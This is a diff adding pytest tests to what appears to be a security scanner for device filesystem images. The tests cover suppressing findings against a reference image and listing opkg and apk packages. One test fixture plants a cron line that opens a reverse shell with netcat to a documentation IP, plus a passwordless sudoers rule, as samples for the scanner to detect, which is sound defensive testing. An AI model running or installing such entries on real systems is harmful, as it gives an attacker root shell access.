@@ -207,3 +207,26 @@ def test_apn_and_sim_pin_file_and_host_keys(tree: Path) -> None:
     found = _found(scan_image(tree, workers=1))
     assert ("oob.apn-file", "oob-connectivity", "opt/cms/etc/modem.conf") in found
     assert ("credential.ssh-host-key", "credential", "etc/ssh/ssh_host_ed25519_key") in found
+
+
+def test_reference_suppression_can_be_shown(tree: Path, tmp_path: Path) -> None:
+    golden = tmp_path / "golden"
+    golden.mkdir()
+    build_tree(golden)
+    _write(golden, "etc/sudoers.d/cms", "cms ALL=(ALL) NOPASSWD: ALL\n")
+    _write(tree, "etc/sudoers.d/cms", "cms ALL=(ALL) NOPASSWD: ALL\n")
+    _write(tree, "etc/cron.d/x", "* * * * * root nc -e /bin/sh 192.0.2.1 1\n")
+    hidden = scan_image(tree, reference=golden, workers=1)
+    shown = scan_image(tree, reference=golden, workers=1, show_suppressed=True)
+    assert "etc/sudoers.d/cms" in {f.evidence[0].path for f in hidden.suppressed}
+    assert "etc/sudoers.d/cms" not in {f.evidence[0].path for f in hidden.findings}
+    assert len(shown.findings) == len(hidden.findings) + len(hidden.suppressed)
+    assert hidden.diff is not None
+    assert (hidden.diff.added, hidden.diff.changed, hidden.diff.removed) == (("etc/cron.d/x",), (), ())
+
+
+def test_opkg_and_apk_databases_are_inventoried(tree: Path) -> None:
+    _write(tree, "usr/lib/opkg/status", "Package: dropbear\nVersion: 2022.82-2\nStatus: install user installed\nArchitecture: arm_cortex-a9\n\n")
+    _write(tree, "lib/apk/db/installed", "C:Q1abc=\nP:busybox\nV:1.36.1-r5\nA:x86_64\no:busybox\n\nP:openssl\nV:3.1.4-r1\nA:x86_64\n\n")
+    packages = {(p.manager, p.name, p.version) for p in scan_image(tree, workers=1).inventory.packages}
+    assert {("opkg", "dropbear", "2022.82-2"), ("apk", "busybox", "1.36.1-r5"), ("apk", "openssl", "3.1.4-r1")} <= packages
